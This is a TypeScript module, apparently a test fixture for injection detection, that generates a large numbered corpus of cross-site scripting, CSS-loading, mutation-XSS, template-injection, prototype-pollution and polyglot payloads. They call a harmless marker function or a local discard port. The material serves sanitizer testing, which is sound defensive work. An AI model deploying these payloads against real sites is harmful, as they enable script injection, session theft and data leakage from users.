/** The foreign origin that payloads request: this machine's discard port, where nothing listens. */
export const FOREIGN_ORIGIN = 'http://127.0.0.1:9';
/** Name of the function that payloads call with their number when they run; `watchInjection` defines it in every frame. */
export const MARKER = 'ran';

/** A text that has an effect if it is not treated as plain text. */
export interface Payload {
  /** Counted from 1 without gaps; part of what the payload runs or requests. */
  number: number;
  /** The attack it tries. */
  group: string;
  text: string;
}

type Make = (number: number) => string;

const run: Make = (number) => `${MARKER}(${number})`;
const foreign: Make = (number) => `${FOREIGN_ORIGIN}/${number}`;
const image: Make = (number) => `<img src=x onerror=${run(number)}>`;
const base64 = (text: string) => btoa(text);
const script: Make = (number) => `<script>${run(number)}</script>`;

/** Writes every character as a numeric reference, decimal or hexadecimal. */
const asEntities = (text: string, radix: 10 | 16 = 10) =>
  [...text]
    .map((char) => char.codePointAt(0) ?? 0)
    .map((code) => (radix === 10 ? `&#${code};` : `&#x${code.toString(16)};`))
    .join('');

/** Writes every character as an escape in a script's string. */
const asEscapes = (text: string) =>
  [...text].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

const product = <A, B>(first: readonly A[], second: readonly B[], join: (a: A, b: B) => Make): Make[] =>
  first.flatMap((a) => second.map((b) => join(a, b)));

/** Elements that run a handler without user interaction: the opening tag and the event. */
const SELF_STARTING = [
  ['<img src=x', 'onerror'],
  ['<image src=x', 'onerror'],
  ['<svg', 'onload'],
  ['<iframe', 'onload'],
  ['<video src=x', 'onerror'],
  ['<video><source src=x', 'onerror'],
  ['<audio src=x', 'onerror'],
  ['<input autofocus', 'onfocus'],
  ['<textarea autofocus', 'onfocus'],
  ['<select autofocus', 'onfocus'],
  ['<button autofocus', 'onfocus'],
  ['<p tabindex=0 autofocus', 'onfocus'],
  ['<a href=# autofocus', 'onfocus'],
  ['<p contenteditable autofocus', 'onfocus'],
  ['<details open', 'ontoggle'],
  ['<style', 'onload'],
  ['<link rel=stylesheet href=data:text/css,', 'onload'],
  ['<link rel=stylesheet href=x:', 'onerror'],
  ['<object data=x:', 'onerror'],
  ['<script src=x:', 'onerror'],
  ['<input type=image src=x', 'onerror'],
  ['<svg><image href=x', 'onerror'],
  ['<svg><animate attributeName=x dur=1s', 'onbegin'],
  ['<svg><set attributeName=x', 'onbegin'],
  ['<p style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
  ['<body', 'onload'],
  ['<marquee', 'onstart'],
  ['<video autoplay src=data:,', 'onloadstart'],
  ['<audio src=data:,', 'onloadstart'],
  ['<embed src=x:', 'onload'],
] as const;

/** Events that need user interaction, on an element as large as the page. */
const PRESSED = ['onclick', 'onmouseover', 'onpointerenter', 'onwheel', 'oncopy', 'onkeydown', 'onauxclick'];

/** Ways to write a handler that browsers accept and simple filters miss. */
const SPELLINGS: readonly Make[] = [
  (n) => `<IMG SRC=x ONERROR=${run(n)}>`,
  (n) => `<iMg sRc=x oNeRrOr=${run(n)}>`,
  (n) => `<img/src=x/onerror=${run(n)}>`,
  (n) => `<img\tsrc=x\tonerror=${run(n)}>`,
  (n) => `<img\nsrc=x\nonerror=${run(n)}\n>`,
  (n) => `<img\fsrc=x\fonerror=${run(n)}>`,
  (n) => `<img src=x onerror='${run(n)}'>`,
  (n) => `<img src="x" onerror="${run(n)}">`,
  (n) => `<img src=x onerror = ${run(n)} >`,
  (n) => `<img """><img src=x onerror=${run(n)}>`,
  (n) => `<<img src=x onerror=${run(n)}>`,
  (n) => `<img src=x onerror=${run(n)} <p>`,
  (n) => `<img src=x onerror=${run(n)}//`,
  (n) => `<img src=x a=\`>\` onerror=${run(n)}>`,
  (n) => `<img src=x onerror="${asEntities(run(n))}">`,
  (n) => `<img src=x onerror="${asEntities(run(n), 16)}">`,
  (n) => `<img src=x onerror="${MARKER}&lpar;${n}&rpar;">`,
  (n) => `<img src=x onerror=${asEscapes(MARKER)}(${n})>`,
  (n) => `<img src=x onerror=eval(atob('${base64(run(n))}'))>`,
  (n) => `<img src=x onerror=window['${MARKER}'](${n})>`,
  (n) => `<img src=x onerror="[${n}].map(${MARKER})">`,
  (n) => `<img src=x onerror=Function('${run(n)}')()>`,
  (n) => `<img src=x onerror=setTimeout('${run(n)}')>`,
  (n) => `<img src=x onerror=import('data:text/javascript,${run(n)}')>`,
  (n) => `<img src=x onerror=fetch('${foreign(n)}')>`,
  (n) => `<img src=x onerror=navigator.sendBeacon('${foreign(n)}')>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<svg onload=confirm(${n})>`,
  (n) => `<svg onload=prompt(${n})>`,
];

/** Texts that end their context: quotes, comments, elements whose content is not markup. */
const WAYS_OUT = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select>',
  '</iframe>',
  '</xmp>',
  '</svg>',
  '</math>',
  '"/>',
  '\\">',
];

/** Attributes that attach to an existing element. */
const JOINED: readonly Make[] = [
  (n) => `" autofocus onfocus="${run(n)}`,
  (n) => `' autofocus onfocus='${run(n)}`,
  (n) => `" onmouseover="${run(n)}" x="`,
  (n) => `x onerror=${run(n)} `,
  (n) => `" style="background:url(${foreign(n)})" x="`,
  (n) => `" srcdoc="${script(n)}" x="`,
  (n) => `" formaction="javascript:${run(n)}`,
];

/** URLs that run a script or lead elsewhere. */
const ADDRESSES: readonly Make[] = [
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt:${run(n)}`,
  (n) => `java\tscript:${run(n)}`,
  (n) => `java\nscript:${run(n)}`,
  (n) => `\u0001javascript:${run(n)}`,
  (n) => ` javascript:${run(n)}`,
  (n) => `javascript&colon;${run(n)}`,
  (n) => `javascript:%72an(${n})`,
  (n) => `javascript://x%0a${run(n)}`,
  (n) => `javascript:'<img src=x onerror=${run(n)}>'`,
  (n) => `vbscript:${run(n)}`,
  (n) => `livescript:${run(n)}`,
  (n) => `data:text/html,${script(n)}`,
  (n) => `data:text/html;base64,${base64(script(n))}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>`,
  (n) => `data:text/javascript,${run(n)}`,
  (n) => `blob:${foreign(n)}`,
  (n) => `file:///${n}`,
  foreign,
  (n) => foreign(n).replace('http:', ''),
  (n) => foreign(n).replace('http://', '\\\\'),
  (n) => foreign(n).replace('http://', '/\\'),
  (n) => foreign(n).replace('http://', 'http:/'),
  (n) => `${FOREIGN_ORIGIN.replace('http://', 'http://localhost@')}/${n}`,
  (n) => `${FOREIGN_ORIGIN.replace('127.0.0.1', '2130706433')}/${n}`,
];

/** Markup that contains a URL. */
const ADDRESS_PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `[go](${address})`,
];

/** Markup that requests a foreign resource without a script. */
const LOADING: readonly Make[] = [
  (n) => `<img src=${foreign(n)}>`,
  (n) => `<img srcset="${foreign(n)} 2x">`,
  (n) => `<picture><source srcset=${foreign(n)}><img></picture>`,
  (n) => `<video poster=${foreign(n)}></video>`,
  (n) => `<video src=${foreign(n)} preload=auto></video>`,
  (n) => `<audio src=${foreign(n)} preload=auto></audio>`,
  (n) => `<iframe src=${foreign(n)}></iframe>`,
  (n) => `<object data=${foreign(n)}></object>`,
  (n) => `<embed src=${foreign(n)}>`,
  (n) => `<link rel=stylesheet href=${foreign(n)}>`,
  (n) => `<link rel=preload as=image href=${foreign(n)}>`,
  (n) => `<link rel=icon href=${foreign(n)}>`,
  (n) => `<input type=image src=${foreign(n)}>`,
  (n) => `<table background=${foreign(n)}><td>x</table>`,
  (n) => `<svg><image href=${foreign(n)} width=9 height=9 /></svg>`,
  (n) => `<svg><use href=${foreign(n)}#x /></svg>`,
  (n) => `<svg><filter id=f><feImage href=${foreign(n)} /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  (n) => `<meta http-equiv=refresh content="0;url=${foreign(n)}">`,
  (n) => `<base href=${foreign(n)}/>`,
  (n) => `<iframe srcdoc="<img src=${foreign(n)}>"></iframe>`,
  (n) => `<a href=${foreign(n)} ping=${foreign(n)}>go</a>`,
];

const STYLES: readonly Make[] = [
  (n) => `<style>@import '${foreign(n)}';</style>`,
  (n) => `<style>@import url(${foreign(n)});</style>`,
  (n) => `<style>*{background:url(${foreign(n)})}</style>`,
  (n) => `<style>@font-face{font-family:f;src:url(${foreign(n)})}*{font-family:f}</style>`,
  (n) => `<p style="background:url(${foreign(n)})">x</p>`,
  (n) => `<p style="background-image:\\75rl('${foreign(n)}')">x</p>`,
  (n) => `<p style="list-style:url(${foreign(n)});display:list-item">x</p>`,
  (n) => `<p style="width:expression(${run(n)})">x</p>`,
  (n) => `url(${foreign(n)})`,
  (n) => `red;background:url(${foreign(n)})`,
  (n) => `}*{background:url(${foreign(n)})}`,
  (n) => `url("javascript:${run(n)}")`,
  (n) => `@import '${foreign(n)}';`,
  (n) => `var(--x,url(${foreign(n)}))`,
];

const FOREIGN_MARKUP: readonly Make[] = [
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><script href=data:text/javascript,${run(n)} /></svg>`,
  (n) => `<svg><a xlink:href="javascript:${run(n)}"><text y=20>x</text></a></svg>`,
  (n) => `<svg><a><animate attributeName=href values=javascript:${run(n)} /><text y=20>x</text></a></svg>`,
  (n) => `<svg><foreignObject><iframe onload=${run(n)}></iframe></foreignObject></svg>`,
  (n) => `<svg><desc><img src=x onerror=${run(n)}></desc></svg>`,
  (n) => `<svg><title><img src=x onerror=${run(n)}></title></svg>`,
  (n) => `<math><a href="javascript:${run(n)}">x</a></math>`,
  (n) => `<math><mtext><img src=x onerror=${run(n)}></mtext></math>`,
  (n) => `<math><annotation-xml encoding=text/html><img src=x onerror=${run(n)}></annotation-xml></math>`,
  (n) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run(n)}"/>`,
  (n) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${foreign(n)}">]><x>&e;</x>`,
];

const FRAMED: readonly Make[] = [
  (n) => `<iframe srcdoc="${script(n)}"></iframe>`,
  (n) => `<iframe srcdoc='<svg onload=${run(n)}>'></iframe>`,
  (n) => `<iframe srcdoc="${asEntities(script(n))}"></iframe>`,
  (n) => `<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=${run(n)}&gt;></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<iframe><img src=x onerror=${run(n)}></iframe>`,
];

/** Markup that changes its meaning when a browser serializes and parses it again. */
const REREAD: readonly Make[] = [
  (n) => `<noscript><p title="</noscript>${image(n)}">`,
  (n) => `<svg></p><style><a id="</style>${image(n)}">`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image(n)}">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math>${image(n)}`,
  (n) => `<p id="${asEntities(image(n))}">x`,
  (n) => `<template><p>${image(n)}</template>${image(n)}`,
  (n) => `<select><template><style><!--</style><a rel="--></style></template></select>${image(n)}">`,
  (n) => `<table><td><a><table></a>${image(n)}`,
  (n) => `<xmp><p title="</xmp>${image(n)}">`,
  (n) => `<textarea><p title="</textarea>${image(n)}">`,
  (n) => `<!--<p title="-->${image(n)}">`,
  (n) => `<![CDATA[><![endif]-->${image(n)}]]>`,
];

const TEMPLATES: readonly Make[] = [
  (n) => `{{${run(n)}}}`,
  (n) => `{{{${run(n)}}}}`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `{{user}}${image(n)}`,
  (n) => `{{#x}}${image(n)}{{/x}}`,
  (n) => `{{&${run(n)}}}`,
  (n) => `\${${run(n)}}`,
  (n) => `$\{constructor.constructor('${run(n)}')()}`,
  (n) => `#{${run(n)}}`,
  (n) => `@{${run(n)}}`,
  (n) => `<%= ${run(n)} %>`,
  (n) => `<%- ${image(n)} %>`,
  (n) => `{%${run(n)}%}`,
  (n) => `[[${run(n)}]]`,
  (n) => `*{${run(n)}}`,
  (n) => `<p ng-app ng-init="${run(n)}">x</p>`,
  (n) => `<p v-html="'${n}'" v-on:load="${run(n)}">x</p>`,
  (n) => `<p x-data x-init="${run(n)}">x</p>`,
  (n) => `<p hx-get=${foreign(n)} hx-trigger=load>x</p>`,
];

const MARKDOWN: readonly Make[] = [
  (n) => `![x](${foreign(n)})`,
  (n) => `![x](x "${'"'}onerror=${run(n)} x=")`,
  (n) => `![${image(n)}](x)`,
  (n) => `[x]: javascript:${run(n)}\n[x]`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `# ${image(n)}`,
  (n) => `\`\`\`html\n${script(n)}\n\`\`\``,
  (n) => `> ${script(n)}`,
  (n) => `| ${image(n)} |\n|---|\n| x |`,
  (n) => `[${image(n)}](x)`,
];

const SCRIPT_ENDS: readonly Make[] = [
  (n) => `</script>${script(n)}`,
  (n) => `</ScRiPt ${script(n)}`,
  (n) => `<!--<script>${script(n)}`,
  (n) => `"};${run(n)};//`,
  (n) => `';${run(n)};'`,
  (n) => `"-${run(n)}-"`,
  (n) => `\\";${run(n)};//`,
  (n) => `"}]});${run(n)}//`,
  (n) => `*/${run(n)}/*`,
  (n) => `\u2028${run(n)}//`,
  (n) => `"}\n\ndata: {"topic":"user","x":"${run(n)}"}\n\n`,
  (n) => `"}\r\nSet-Cookie: x=${n}\r\n\r\n${script(n)}`,
];

/** Characters that look like others, or are invisible. */
const CHARACTERS: readonly Make[] = [
  (n) => `\u202e${image(n)}`,
  (n) => `\u2066${script(n)}\u2069`,
  (n) => `\u200f<b>${n}</b>${image(n)}`,
  (n) => `<\u200bimg src=x onerror=${run(n)}>`,
  (n) => `\ufeff${image(n)}`,
  (n) => `\uff1cimg src=x onerror=${run(n)}\uff1e`,
  (n) => `\u2039script\u203a${run(n)}\u2039/script\u203a`,
  (n) => `<\u017fcript>${run(n)}</\u017fcript>`,
  (n) => `\u00bcscript\u00be${run(n)}\u00bc/script\u00be`,
  (n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`,
  (n) => `<img src=x onerror\u0000=${run(n)}>`,
  (n) => `<scr\u0000ipt>${run(n)}</scr\u0000ipt>`,
  (n) => `\u0000${image(n)}`,
  (n) => `<img\u0000src=x onerror=${run(n)}>`,
  (n) => `\u001b]0;${image(n)}\u0007`,
  (n) => `\u{1d552}\u0301\u0301${image(n)}`,
];

/** Texts that become markup only when decoded again. */
const ENCODED: readonly Make[] = [
  (n) => asEntities(image(n)),
  (n) => asEntities(image(n), 16),
  (n) => image(n).replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (n) => image(n).replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (n) => image(n).replaceAll('<', '&#60').replaceAll('>', '&#62'),
  (n) => encodeURIComponent(image(n)),
  (n) => encodeURIComponent(encodeURIComponent(image(n))),
  (n) => asEscapes(image(n)),
  (n) => image(n).replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (n) => base64(image(n)),
];

/** Names of properties that all objects have. */
const NAMES: readonly Make[] = [
  (n) => `__proto__[x${n}]=${image(n)}`,
  (n) => `{"__proto__":{"innerHTML":"${image(n)}"}}`,
  (n) => `{"dangerouslySetInnerHTML":{"__html":"${image(n)}"}}`,
  (n) => `constructor.prototype.x${n}=${run(n)}`,
  (n) => `<form id=__proto__><input name=innerHTML value=${n}></form>`,
  (n) => `<a id=config></a><a id=config name=url href=${foreign(n)}></a>`,
  (n) => `<img name=getElementById src=x onerror=${run(n)}>`,
];

/** Texts that work in many contexts. */
const POLYGLOTS: readonly Make[] = [
  (n) => `'"></script></style></title></textarea>--><svg onload=${run(n)}>`,
  (n) =>
    `javascript:/*'/*"/*\`/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run(n)}//'>`,
  (n) => `";${run(n)};//'><img src=x onerror=${run(n)}>{{${run(n)}}}`,
  (n) => `)](javascript:${run(n)})<!--"'>${image(n)}`,
  (n) => `\${${run(n)}}<%=${run(n)}%>#{${run(n)}}${image(n)}`,
];

const GROUPS: Readonly<Record<string, readonly Make[]>> = {
  'handler that starts by itself': SELF_STARTING.map(
    ([element, event]): Make =>
      (n) =>
        `${element} ${event}=${run(n)}>`,
  ),
  'handler that waits': PRESSED.map(
    (event): Make =>
      (n) =>
        `<p style="position:fixed;inset:0" ${event}=${run(n)}>x`,
  ),
  spelling: SPELLINGS,
  script: [script, (n) => `<script src=data:,${run(n)}></script>`, (n) => `<script src=${foreign(n)}></script>`],
  'way out': product(WAYS_OUT, [image, script], (way, make) => (n) => way + make(n)),
  attribute: JOINED,
  address: ADDRESSES,
  'address in its place': product(ADDRESSES.slice(0, 4), ADDRESS_PLACES, (make, place) => (n) => place(make(n))),
  loading: LOADING,
  style: STYLES,
  'foreign markup': FOREIGN_MARKUP,
  frame: FRAMED,
  'read again': REREAD,
  template: TEMPLATES,
  markdown: MARKDOWN,
  'end of a script': SCRIPT_ENDS,
  character: CHARACTERS,
  encoded: ENCODED,
  name: NAMES,
  polyglot: POLYGLOTS,
};

/** Texts that try to run or load something where they are shown, combined from the parts above; the same in every run. */
export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS)
  .flatMap(([group, makes]) => makes.map((make) => ({ group, make })))
  .map(({ group, make }, index) => ({ number: index + 1, group, text: make(index + 1) }));
